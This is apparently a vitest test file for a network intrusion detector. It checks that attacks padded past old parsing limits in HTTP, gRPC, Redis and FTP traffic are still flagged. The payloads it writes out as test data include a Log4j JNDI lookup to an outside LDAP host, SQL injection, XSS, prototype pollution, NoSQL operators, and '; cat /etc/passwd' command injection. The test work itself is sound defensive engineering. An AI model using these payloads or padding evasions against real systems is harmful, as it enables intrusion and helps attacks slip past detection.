/**
 * Padding evasions (ADR 30). Every bound on what detectors read used to cut silently. An attacker who put the
 * attack past the bound hid it: past 128 header lines, past a header's first KiB, past 256 parameters or JSON
 * strings, or past a value's first 4 KiB. Each case is the attack that is found without padding, then padded past
 * the old bound; both must be reported.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { defaultObservers } from '#sidecar/engine/default-observers.ts';
import { inspectFile } from '#sidecar/engine/inspect-file.ts';
import { writePcap } from '#sidecar/pcap/pcap-writer.ts';
import { protobufDelimited, protobufText } from '#test/fixtures/protocols/protobuf-encode.ts';
import { splitFindings, threatsBy } from '#test/helpers/split-findings.ts';
import { tcpConversation } from './conversation.ts';

const dir = mkdtempSync(join(tmpdir(), 'meshward-padding-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

let n = 0;
/** The request in one segment, or cut into segments of `mss` octets as a real network carries it. */
const threatsOf = async (
  request: string | Uint8Array,
  mss = Math.min(request.length, 60_000),
): Promise<string[]> => {
  const file = join(dir, `c${n++}.pcap`);
  const endpoints = { client: '10.0.0.1', server: '10.0.0.2', clientPort: 40000, serverPort: 8080 };
  const answer = 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n';
  const segments = Array.from({ length: Math.ceil(request.length / mss) }, (_, i) => ({
    from: 'client' as const,
    data: request.slice(i * mss, (i + 1) * mss),
  }));
  const records = tcpConversation(endpoints, [...segments, { from: 'server', data: answer }]);
  writeFileSync(file, writePcap(records).bytes);
  const { findings } = await inspectFile(file, { observers: defaultObservers() });
  return splitFindings(findings).threats.map((f) => f.threat);
};

const sqli = "1'%20OR%20'1'='1";
// biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4j lookup, not a template.
const jndi = '${jndi:ldap://198.51.100.7/a}';
const get = (target: string, headers = '') => `GET ${target} HTTP/1.1\r\nHost: shop\r\n${headers}\r\n`;
const post = (type: string, body: string) =>
  `POST /search HTTP/1.1\r\nHost: shop\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
/** A gRPC request over HTTP/1.1 (what the parser bounds the same way): its head, then the framed body's octets. */
const grpcPost = (body: Uint8Array, encoding = '') => {
  const extra = encoding === '' ? '' : `grpc-encoding: ${encoding}\r\n`;
  const head = `POST /shop.Catalog/Search HTTP/1.1\r\nHost: shop\r\nContent-Type: application/grpc\r\n${extra}Content-Length: ${body.length}\r\n\r\n`;
  return Uint8Array.from([...new TextEncoder().encode(head), ...body]);
};
/** gRPC's length-prefixed message ("PROTOCOL-HTTP2": Compressed-Flag, Message-Length, Message). */
const grpcFrame = (message: ArrayLike<number>, compressed = false) => {
  const length = [24, 16, 8, 0].map((shift) => (message.length >>> shift) & 0xff);
  return [compressed ? 1 : 0, ...length, ...Array.from(message)];
};
const text1 = (value: string) => protobufText(1, value);
const grpcSqli = "1' OR '1'='1";
const fillerHeaders = (count: number) =>
  Array.from({ length: count }, (_, i) => `X-Filler-${i}: a\r\n`).join('');

/** The same request in chunked transfer coding, in chunks of 4000 octets (RFC 9112 §7.1). */
const chunkedPost = (type: string, body: string) => {
  const chunks = Array.from({ length: Math.ceil(body.length / 4000) }, (_, i) =>
    body.slice(i * 4000, (i + 1) * 4000),
  );
  const coded = `${chunks.map((c) => `${c.length.toString(16)}\r\n${c}\r\n`).join('')}0\r\n\r\n`;
  return `POST /search HTTP/1.1\r\nHost: shop\r\nContent-Type: ${type}\r\nTransfer-Encoding: chunked\r\n\r\n${coded}`;
};
const formType = 'application/x-www-form-urlencoded';
const xss = '<script>alert(1)</script>';
/** `count` ordinary records of a shop's export, from `from`. */
const records = (from: number, count: number) =>
  Array.from({ length: count }, (_, i) => ({
    id: from + i,
    name: `user${from + i}`,
    city: 'Paris',
    vip: false,
  }));
/** `count` different form fields of words and numbers, from `from`. */
const plainFields = (from: number, count: number) =>
  Array.from({ length: count }, (_, i) => `f${from + i}=value+${from + i}`).join('&');

const multipartType = 'multipart/form-data; boundary=----x7';
const formPart = (name: string, content: string, filename?: string) =>
  `------x7\r\nContent-Disposition: form-data; name="${name}"${filename === undefined ? '' : `; filename="${filename}"`}\r\n\r\n${content}\r\n`;

const cases: { name: string; threat: string; plain: string | Uint8Array; padded: string | Uint8Array }[] = [
  {
    name: 'a JNDI lookup in the 131st header line',
    threat: 'log4shell',
    plain: get('/', `User-Agent: ${jndi}\r\n`),
    padded: get('/', `${fillerHeaders(130)}User-Agent: ${jndi}\r\n`),
  },
  {
    name: 'a JNDI lookup after 1100 octets of one header',
    threat: 'log4shell',
    plain: get('/', `User-Agent: ${jndi}\r\n`),
    padded: get('/', `User-Agent: ${'x'.repeat(1100)}${jndi}\r\n`),
  },
  {
    name: 'a SQL injection in the 301st query parameter',
    threat: 'sql-injection',
    plain: get(`/search?q=${sqli}`),
    padded: get(`/search?${'a=1&'.repeat(300)}q=${sqli}`),
  },
  {
    name: 'a SQL injection after 5000 octets of its parameter',
    threat: 'sql-injection',
    plain: get(`/search?q=${sqli}`),
    padded: get(`/search?q=${'a'.repeat(5000)}${sqli}`),
  },
  {
    name: 'a SQL injection in the 301st form field',
    threat: 'sql-injection',
    plain: post('application/x-www-form-urlencoded', `q=${sqli}`),
    padded: post('application/x-www-form-urlencoded', `${'a=1&'.repeat(300)}q=${sqli}`),
  },
  {
    name: 'a SQL injection in the 301st JSON string',
    threat: 'sql-injection',
    plain: post('application/json', JSON.stringify({ q: "1' OR '1'='1" })),
    padded: post('application/json', JSON.stringify({ a: Array(300).fill('x'), q: "1' OR '1'='1" })),
  },
  {
    name: 'a SQL injection after 9000 octets of a form body (the 8 KiB bound of request bodies before)',
    threat: 'sql-injection',
    plain: post('application/x-www-form-urlencoded', `q=${sqli}`),
    padded: post('application/x-www-form-urlencoded', `pad=${'a'.repeat(9000)}&q=${sqli}`),
  },
  {
    name: 'a SQL injection in a form field after a 70,000-octet file (past the 64 KiB kept of a body)',
    threat: 'sql-injection',
    plain: post(multipartType, `${formPart('q', "1' OR '1'='1")}------x7--\r\n`),
    padded: post(
      multipartType,
      `${formPart('upload', 'A'.repeat(70_000), 'big.bin')}${formPart('q', "1' OR '1'='1")}------x7--\r\n`,
    ),
  },
  {
    name: 'a SQL injection after 60,000 octets of a JSON body',
    threat: 'sql-injection',
    plain: post('application/json', JSON.stringify({ q: "1' OR '1'='1" })),
    padded: post('application/json', JSON.stringify({ pad: 'x'.repeat(60_000), q: "1' OR '1'='1" })),
  },
  {
    name: 'a SQL injection in a form field after a field of 70,000 octets (past the 64 KiB kept of a body)',
    threat: 'sql-injection',
    plain: post(formType, `q=${sqli}`),
    padded: post(formType, `pad=${'A'.repeat(70_000)}&q=${sqli}`),
  },
  {
    name: 'a SQL injection at the end of a field of 70,000 octets, the bound inside it',
    threat: 'sql-injection',
    plain: post(formType, `q=${sqli}`),
    padded: post(formType, `q=${'A'.repeat(70_000)}${sqli}`),
  },
  {
    name: 'a SQL injection between 90,000 octets of different small fields and 90,000 more',
    threat: 'sql-injection',
    plain: post(formType, `q=${sqli}`),
    padded: post(formType, `${plainFields(0, 5000)}&q=${sqli}&${plainFields(5000, 5000)}`),
  },
  {
    name: 'a SQL injection after 70,000 octets of a form in chunked transfer coding',
    threat: 'sql-injection',
    plain: chunkedPost(formType, `q=${sqli}`),
    padded: chunkedPost(formType, `pad=${'A'.repeat(70_000)}&q=${sqli}`),
  },
  {
    name: 'a __proto__ field name after a field of 70,000 octets',
    threat: 'prototype-pollution',
    plain: post(formType, '__proto__%5BisAdmin%5D=true'),
    padded: post(formType, `pad=${'A'.repeat(70_000)}&__proto__%5BisAdmin%5D=true`),
  },
  {
    name: 'a JSON key under __proto__ after a string of 70,000 octets',
    threat: 'prototype-pollution',
    plain: post('application/json', '{"__proto__": {"isAdmin": true}}'),
    padded: post('application/json', `{"pad": "${'A'.repeat(70_000)}", "__proto__": {"isAdmin": true}}`),
  },
  {
    name: 'a MongoDB operator as a JSON key after 70 KB of records',
    threat: 'nosql-injection',
    plain: post('application/json', '{"user": "ada", "password": {"$ne": null}}'),
    padded: post(
      'application/json',
      JSON.stringify({ rows: records(0, 1200), user: 'ada', password: { $ne: null } }),
    ),
  },
  {
    name: 'an XSS in a JSON object after a 70 KB array of records',
    threat: 'xss',
    plain: post('application/json', JSON.stringify([{ q: xss }])),
    padded: post(
      'application/json',
      JSON.stringify([...records(0, 1200), { q: xss }, ...records(1200, 300)]),
    ),
  },
  {
    name: 'an XSS after 70 KB of records of a JSON body in chunked transfer coding',
    threat: 'xss',
    plain: chunkedPost('application/json', JSON.stringify([{ q: xss }])),
    padded: chunkedPost('application/json', JSON.stringify({ rows: records(0, 1200), q: xss })),
  },
  {
    name: 'a SQL injection in the 20th gRPC message of a request',
    threat: 'sql-injection',
    plain: grpcPost(Uint8Array.from(grpcFrame(text1(grpcSqli)))),
    padded: grpcPost(
      Uint8Array.from([
        ...Array.from({ length: 19 }, (_, i) => grpcFrame(text1(`item ${i}`))).flat(),
        ...grpcFrame(text1(grpcSqli)),
      ]),
    ),
  },
  {
    name: 'a SQL injection in the 301st text field of a gRPC message',
    threat: 'sql-injection',
    plain: grpcPost(Uint8Array.from(grpcFrame(text1(grpcSqli)))),
    padded: grpcPost(
      Uint8Array.from(
        grpcFrame([...Array.from({ length: 300 }, (_, i) => text1(`item ${i}`)).flat(), ...text1(grpcSqli)]),
      ),
    ),
  },
  {
    name: 'a SQL injection after 70000 octets of a gzip-compressed gRPC message',
    threat: 'sql-injection',
    plain: grpcPost(Uint8Array.from(grpcFrame(gzipSync(Uint8Array.from(text1(grpcSqli))), true)), 'gzip'),
    padded: grpcPost(
      Uint8Array.from(
        grpcFrame(gzipSync(Uint8Array.from([...text1('a'.repeat(70_000)), ...text1(grpcSqli)])), true),
      ),
      'gzip',
    ),
  },
];

describe('an attack padded past what detectors used to read is still reported', () => {
  it.each(cases)('$name', async ({ threat, plain, padded }) => {
    expect(await threatsOf(plain)).toContain(threat);
    expect(await threatsOf(padded)).toContain(threat);
  });

  it('a head past the 64 KiB held: its own request is judged, and so are the requests after it', async () => {
    // Go's servers read heads of up to 1 MiB. Stopping at 64 KiB hid every later request on the connection.
    const oversized = (target: string) => get(target, `X-Padding: ${'b'.repeat(70_000)}\r\n`);
    const next = get(`/search?q=${sqli}`);
    for (const mss of [1448, 60_000]) {
      expect(await threatsOf(oversized(`/search?q=${sqli}`), mss)).toContain('sql-injection');
      expect(await threatsOf(oversized('/') + next, mss)).toContain('sql-injection');
    }
  });

  it('reads no attack into large harmless bodies judged past 256 inputs as one (quotes, SQL words, paths, markup)', async () => {
    const words = [
      "O'Brien",
      'select all',
      'Union Station',
      'order by date',
      'drop-off',
      "it's 1=1 fine",
      'x or y',
    ];
    words.push(
      '--verbose',
      'C:\\temp',
      'http://example.com/a?b=1',
      '<b>bold</b>',
      'cat dog',
      '; ok',
      '$HOME',
    );
    words.push("Let's go", "d'Artagnan", 'where we go', "Rock 'n' roll", '"quoted"');
    const word = (i: number) => words[i % words.length] as string;
    const objects = Array.from({ length: 150 }, (_, i) => ({ name: word(i), note: `${word(i + 3)} ${i}` }));
    const form = Array.from({ length: 300 }, (_, i) => `f${i}=${encodeURIComponent(word(i))}`).join('&');
    expect(await threatsOf(post('application/json', JSON.stringify(objects)))).toEqual([]);
    expect(await threatsOf(post('application/x-www-form-urlencoded', form))).toEqual([]);
    const items = JSON.stringify({ items: Array.from({ length: 400 }, (_, i) => word(i)) });
    expect(await threatsOf(post('application/json', items))).toEqual([]);
    // gRPC: the fields past 256 judged as one, a line each (grpc (rest)), in 30 messages past the old 16.
    const fields = (from: number) => Array.from({ length: 14 }, (_, i) => text1(word(from + i))).flat();
    const messages = Array.from({ length: 30 }, (_, m) => grpcFrame(fields(m * 14))).flat();
    expect(await threatsOf(grpcPost(Uint8Array.from(messages)))).toEqual([]);
  });

  it('a request line past 64 KiB is skipped, and the request after it judged (no endless re-reading)', async () => {
    const next = get(`/search?q=${sqli}`);
    const line = `GET /${'c'.repeat(70_000)} HTTP/1.1\r\nHost: shop\r\n\r\n`;
    expect(await threatsOf(line + next, 1448)).toContain('sql-injection');
  });

  it('shows the attack in its evidence, not the padding before it', async () => {
    const file = join(dir, 'evidence.pcap');
    const endpoints = { client: '10.0.0.1', server: '10.0.0.2', clientPort: 40000, serverPort: 8080 };
    const request = get(`/search?q=${'a'.repeat(5000)}${sqli}`);
    writeFileSync(file, writePcap(tcpConversation(endpoints, [{ from: 'client', data: request }])).bytes);
    const { findings } = await inspectFile(file, { observers: defaultObservers() });
    const [finding] = threatsBy(findings, 'sql-injection');
    expect(finding?.evidence).toMatch(/query q: \(characters \d+ to 5012 of 5012, decoded\) a+1' OR '1'='1/);
  });

  it('a first request larger than the 4 KiB kept for detection, in one segment or in 1448-octet ones', async () => {
    // A request line past 4 KiB used to leave detection waiting for its end; the server's answer then named the
    // protocol and the request was lost. A head past 4 KiB in one segment lost everything after its first 4 KiB.
    const longQuery = get(`/search?q=${'a'.repeat(6000)}${sqli}`);
    const longHead = get(`/search?q=${sqli}`, `X-Padding: ${'b'.repeat(6000)}\r\n`);
    for (const request of [longQuery, longHead]) {
      expect(await threatsOf(request)).toContain('sql-injection');
      expect(await threatsOf(request, 1448)).toContain('sql-injection');
    }
  });
});

describe('an attack in a Redis argument past the 32 the parser kept is still reported (ADR 35)', () => {
  /** RESP commands from a client to a Redis server on 6379, each answered `+OK`. */
  const redisThreats = async (...commands: string[][]): Promise<string[]> => {
    const file = join(dir, `r${n++}.pcap`);
    const endpoints = { client: '10.0.0.1', server: '10.0.0.2', clientPort: 40000, serverPort: 6379 };
    const resp = (args: string[]) =>
      `*${args.length}\r\n${args.map((a) => `$${Buffer.byteLength(a)}\r\n${a}\r\n`).join('')}`;
    const segments = commands.flatMap((c) => [
      { from: 'client' as const, data: resp(c) },
      { from: 'server' as const, data: '+OK\r\n' },
    ]);
    writeFileSync(file, writePcap(tcpConversation(endpoints, segments)).bytes);
    const { findings } = await inspectFile(file, { observers: defaultObservers() });
    return splitFindings(findings).threats.map((f) => f.threat);
  };
  const pairs = (count: number, value = (i: number) => `v${i}`) =>
    Array.from({ length: count }, (_, i) => [`k${i}`, value(i)]).flat();

  it.each([
    ['log4shell', jndi],
    ['command-injection', '; cat /etc/passwd'],
    ['path-traversal', '../../../../etc/passwd'],
  ])(
    '%s in the 43rd argument of MSET, and in the 601st (past 256, judged as the rest)',
    async (threat, value) => {
      expect(await redisThreats(['MSET', 'key', value])).toContain(threat);
      expect(await redisThreats(['MSET', ...pairs(20), 'key', value])).toContain(threat);
      expect(await redisThreats(['MSET', ...pairs(300), 'key', value])).toContain(threat);
    },
  );

  it('reads no attack into long harmless commands whose arguments past 256 are judged as one', async () => {
    const words = [
      "O'Brien",
      'cat dog',
      '; ok',
      '$HOME',
      'C:\\temp',
      '--verbose',
      '..',
      '/etc',
      '-l',
      '|',
      'x.jndi',
      'a/b/c',
    ];
    const value = (i: number) => `${words[i % words.length]} ${i}`;
    expect(await redisThreats(['MSET', ...pairs(400, value)], ['RPUSH', 'q', ...pairs(400, value)])).toEqual(
      [],
    );
  });
});

describe("an attack past an operation detail's first 256 characters is still reported", () => {
  /** An FTP session (vsftpd's greeting) whose client sends `lines`, each answered. */
  const ftpThreats = async (...lines: string[]): Promise<string[]> => {
    const file = join(dir, `f${n++}.pcap`);
    const endpoints = { client: '10.0.0.1', server: '10.0.0.2', clientPort: 40000, serverPort: 21 };
    const segments = [
      { from: 'server' as const, data: '220 (vsFTPd 3.0.3)\r\n' },
      ...lines.flatMap((line) => [
        { from: 'client' as const, data: `${line}\r\n` },
        { from: 'server' as const, data: '550 Failed to change directory.\r\n' },
      ]),
    ];
    writeFileSync(file, writePcap(tcpConversation(endpoints, segments)).bytes);
    const { findings } = await inspectFile(file, { observers: defaultObservers() });
    return splitFindings(findings).threats.map((f) => f.threat);
  };

  it.each([
    ['log4shell', jndi],
    ['command-injection', '; cat /etc/passwd'],
  ])('%s after 300 characters of an FTP CWD argument', async (threat, attack) => {
    expect(await ftpThreats(`CWD /srv/${attack}`)).toContain(threat);
    expect(await ftpThreats(`CWD /srv/${'a'.repeat(300)}${attack}`)).toContain(threat);
  });

  it('reads no attack into long harmless FTP paths', async () => {
    const path = Array.from({ length: 120 }, (_, i) => `dir-${i}`).join('/');
    expect(
      await ftpThreats(`CWD /srv/${path}`, `RETR /srv/${path}/report.csv`, 'MKD reports 2026 (copy)'),
    ).toEqual([]);
  });
});

describe('a body of text padded past what is judged is reported as uninspected', () => {
  const gzipPost = (body: Uint8Array, encoding = 'gzip') => {
    const head = `POST /search HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Encoding: ${encoding}\r\nContent-Length: ${body.length}\r\n\r\n`;
    const request = new Uint8Array(head.length + body.length);
    request.set(new TextEncoder().encode(head));
    request.set(body, head.length);
    return request;
  };

  it('a form body past the 64 KiB kept, in 1448-octet segments: its later fields judged, nothing left unread', async () => {
    // Until ADR 46 only `uninspected-body` told this body; its padding is one run, read once.
    const padded = post('application/x-www-form-urlencoded', `pad=${'a'.repeat(70_000)}&q=${sqli}`);
    expect(await threatsOf(padded, 1448)).toEqual(['sql-injection']);
    // Different text past the 64 KiB kept of the padding: not all read, still reported with the attack.
    const words = Array.from({ length: 14_000 }, (_, i) => `w${i}`).join('+');
    expect(await threatsOf(post(formType, `pad=${words}&q=${sqli}`), 1448)).toEqual([
      'sql-injection',
      'uninspected-body',
    ]);
  });

  it('a form padded with different fields that each hold a trigger character, past the bound: reported unread', async () => {
    // The limit of what is kept (later-values.ts): 64 KiB of such fields in front of the attack push it out.
    const quoted = Array.from({ length: 9000 }, (_, i) => `f${i}=it%27s+${i}`).join('&');
    expect(await threatsOf(post(formType, `${quoted}&q=${sqli}`), 1448)).toEqual(['uninspected-body']);
  });

  it('a gzip body that decodes past the 64 KiB judged: its later strings judged; a coding not decoded (zstd)', async () => {
    const json = JSON.stringify({ pad: 'x'.repeat(100_000), q: "1' OR '1'='1" });
    expect(await threatsOf(gzipPost(gzipSync(json)))).toEqual(['sql-injection']);
    const form = new TextEncoder().encode(`pad=${'A'.repeat(100_000)}&q=${sqli}`);
    const gzipForm = gzipPost(gzipSync(form));
    const formRequest = new TextDecoder('latin1').decode(gzipForm).replace('application/json', formType);
    expect(await threatsOf(Uint8Array.from(formRequest, (c) => c.charCodeAt(0)))).toEqual(['sql-injection']);
    expect(await threatsOf(gzipPost(new TextEncoder().encode(json.slice(0, 500)), 'zstd'))).toEqual([
      'uninspected-body',
    ]);
    // Within the bound, the decoded body is judged and nothing is uninspected.
    expect(await threatsOf(gzipPost(gzipSync(JSON.stringify({ q: "1' OR '1'='1" }))))).toEqual([
      'sql-injection',
    ]);
  });

  it('an XML or text body past the 64 KiB kept, in 1448-octet segments: its later texts, attributes and lines judged', async () => {
    // Until now only `uninspected-body` told these bodies.
    const soap = (inner: string) =>
      `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><search><pad>${'A'.repeat(70_000)}</pad><!-- filler -->${inner}</search></soap:Body></soap:Envelope>`;
    const xml = 'application/soap+xml; charset=utf-8';
    expect(await threatsOf(post(xml, soap("<q>1' OR '1'='1</q>")), 1448)).toEqual(['sql-injection']);
    expect(await threatsOf(post(xml, soap(`<q><![CDATA[${xss}]]></q>`)), 1448)).toEqual(['xss']);
    expect(
      await threatsOf(post('text/xml', soap('<q>&lt;script&gt;alert(1)&lt;/script&gt;</q>')), 1448),
    ).toEqual(['xss']);
    expect(
      await threatsOf(
        post('application/xml', soap('<q kind="&lt;script&gt;alert(1)&lt;/script&gt;">x</q>')),
        1448,
      ),
    ).toEqual(['xss']);
    const lines = `${'note: all fine\n'.repeat(5_000)}1' OR '1'='1\n`;
    expect(await threatsOf(post('text/plain', lines), 1448)).toEqual(['sql-injection']);
  });

  it('a plain gRPC body past the 64 KiB kept, in 1448-octet segments: later fields and messages judged', async () => {
    // Until now neither judged nor reported: a plain gRPC body's size alone is not `uninspected-body`'s.
    const nested = (inner: number[]) => protobufDelimited(3, inner);
    const longField = grpcPost(
      Uint8Array.from(grpcFrame([...text1('A'.repeat(70_000)), ...protobufText(2, grpcSqli)])),
    );
    expect(await threatsOf(longField, 1448)).toEqual(['sql-injection']);
    const inNested = grpcPost(
      Uint8Array.from(grpcFrame(nested([...text1('A'.repeat(80_000)), ...protobufText(2, xss)]))),
    );
    expect(await threatsOf(inNested, 1448)).toEqual(['xss']);
    const stream = grpcPost(
      Uint8Array.from([
        ...Array.from({ length: 80 }, (_, i) => grpcFrame(text1(`item ${i} ${'x'.repeat(1000)}`))).flat(),
        ...grpcFrame(text1(grpcSqli)),
      ]),
    );
    expect(await threatsOf(stream, 1448)).toEqual(['sql-injection']);
    const honest = grpcPost(
      Uint8Array.from(
        Array.from({ length: 200 }, (_, i) =>
          grpcFrame([...text1(`order ${i}`), ...protobufText(2, 'x'.repeat(900))]),
        ).flat(),
      ),
    );
    expect(await threatsOf(honest, 1448)).toEqual([]);
  });

  it('honest large bodies past the bound report no attack: 1 MiB of JSON records, a big form of words', async () => {
    const words = [
      "O'Brien",
      'select all',
      'Union Station',
      'order by date',
      "it's 1=1 fine",
      '<b>bold</b>',
      '$HOME',
    ];
    const rows = Array.from({ length: 8000 }, (_, i) => ({
      id: i,
      name: `${words[i % words.length]} ${i}`,
      email: `user${i}@example.com`,
      note: `bought ${i % 7} items; see https://shop.example/orders/${i}`,
    }));
    const json = JSON.stringify(rows);
    expect(json.length).toBeGreaterThan(1_000_000);
    const injections = (found: string[]) => found.filter((t) => t !== 'uninspected-body');
    expect(injections(await threatsOf(post('application/json', json), 1448))).toEqual([]);
    const form = rows.map(
      (r) => `n${r.id}=${encodeURIComponent(r.name)}&e${r.id}=${encodeURIComponent(r.note)}`,
    );
    expect(injections(await threatsOf(post(formType, form.join('&')), 1448))).toEqual([]);
    const xmlRows = rows
      .map(
        (r) =>
          `<row id="${r.id}"><name>${r.name.replace('<b>', '&lt;b&gt;').replace('</b>', '&lt;/b&gt;')}</name><note>${r.note}</note></row>`,
      )
      .join('');
    expect(injections(await threatsOf(post('application/xml', `<rows>${xmlRows}</rows>`), 1448))).toEqual([]);
    const log = rows.map((r) => `${r.email} ${r.name}: ${r.note}`).join('\n');
    expect(injections(await threatsOf(post('text/plain', log), 1448))).toEqual([]);
  });

  it('not long uploads of files, nor text within the bound', async () => {
    const file = 'z'.repeat(100_000);
    expect(await threatsOf(post('application/octet-stream', file), 1448)).toEqual([]);
    expect(await threatsOf(post('image/png', file), 1448)).toEqual([]);
    expect(
      await threatsOf(post('application/json', JSON.stringify({ text: 'y'.repeat(60_000) })), 1448),
    ).toEqual([]);
  });
});
